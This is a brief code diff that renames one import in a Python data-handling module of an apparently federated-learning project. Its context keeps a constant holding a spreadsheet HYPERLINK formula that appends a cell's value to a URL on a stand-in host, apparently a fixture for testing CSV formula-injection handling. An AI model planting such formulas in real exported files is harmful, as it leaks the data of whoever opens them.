@@ -14,7 +14,7 @@ from fedul_flwr.data.csv_cells import read_cell, write_cell
 from fedul_flwr.data.local_files import read_rows
 from fedul_flwr.data.run_files.label_files import read_labels, write_labels
 from fedul_flwr.data.types import Propagated
-from fedul_flwr.experiments.text_table import csv_text
+from fedul_flwr.experiments.compare_table import csv_text
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
 
